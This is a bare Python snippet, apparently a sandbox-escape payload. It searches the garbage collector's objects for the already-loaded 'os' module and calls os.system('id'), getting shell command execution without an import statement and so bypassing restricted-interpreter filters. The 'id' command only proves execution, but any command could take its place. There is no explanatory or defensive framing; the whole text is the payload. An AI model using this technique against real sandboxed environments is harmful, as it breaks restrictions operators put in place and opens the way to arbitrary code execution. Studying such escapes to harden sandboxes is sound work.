for o in gc.get_objects():
    if type(o).__name__ == "module" and o.__name__ == "os":
        o.system("id")
        break
